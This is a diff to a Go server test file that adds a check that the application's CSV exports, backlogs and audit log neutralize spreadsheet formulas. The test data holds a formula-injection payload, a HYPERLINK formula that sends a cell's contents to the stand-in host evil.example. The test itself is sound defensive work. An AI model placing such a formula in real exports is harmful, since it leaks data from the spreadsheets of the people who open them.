@@ -2,6 +2,7 @@ package server_test
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"net/http"
@@ -21,6 +22,7 @@ import (
 	"github.com/awaf/awaf/internal/lens"
 	"github.com/awaf/awaf/internal/memtest"
 	"github.com/awaf/awaf/internal/server"
+	"github.com/awaf/awaf/internal/sheetcell"
 )
 
 var alertRE = regexp.MustCompile(`<p class="error" role="alert">([^<]*)</p>`)
@@ -347,5 +349,45 @@ func TestSignInTimingSameForUnknownEmails(t *testing.T) {
 		k[0].Round(time.Millisecond/10), k[len(k)/2].Round(time.Millisecond/10), n[0].Round(time.Millisecond/10), n[len(n)/2].Round(time.Millisecond/10), ratio)
 	if ratio < 0.67 || ratio > 1.5 {
 		t.Errorf("unknown emails take %.2f× the time of known ones", ratio)
+	}
+}
+
+// TestExportsNeutralizeFormulas saves a note that is a formula and reads it back
+// through every CSV the server serves: the report, the backlogs and the audit log.
+func TestExportsNeutralizeFormulas(t *testing.T) {
+	f := newFixture(t)
+	note := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	res := f.do(call{method: "PUT", path: fmt.Sprintf("/api/v1/workloads/%d/answers/%s", f.w.ID, f.question), as: "owner",
+		json: fmt.Sprintf(`{"selected":[],"note":%q,"version":-1}`, note)})
+	if res.StatusCode != http.StatusOK {
+		t.Fatalf("save: %d %s", res.StatusCode, readBody(t, res))
+	}
+	for _, path := range []string{"/w/%d/export/csv", "/w/%d/audit.csv", "/w/%d/backlog/ado", "/w/%d/backlog/github", "/w/%d/backlog/jira"} {
+		p := fmt.Sprintf(path, f.w.ID)
+		res := f.do(call{method: "GET", path: p, as: "owner"})
+		body := readBody(t, res)
+		if res.StatusCode != http.StatusOK {
+			t.Errorf("%s: %d", p, res.StatusCode)
+			continue
+		}
+		r := csv.NewReader(strings.NewReader(body))
+		r.FieldsPerRecord = -1
+		recs, err := r.ReadAll()
+		if err != nil {
+			t.Errorf("%s: %v", p, err)
+			continue
+		}
+		for i, rec := range recs {
+			for _, c := range rec {
+				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && c != "-----------" && !sheetcell.Number(c) {
+					t.Errorf("%s record %d: a live formula cell %.60q", p, i+1, c)
+				}
+			}
+		}
+		if strings.Contains(p, "export") {
+			if !strings.Contains(body, `'=HYPERLINK`) {
+				t.Errorf("%s: the neutralized note is missing", p)
+			}
+		}
 	}
 }
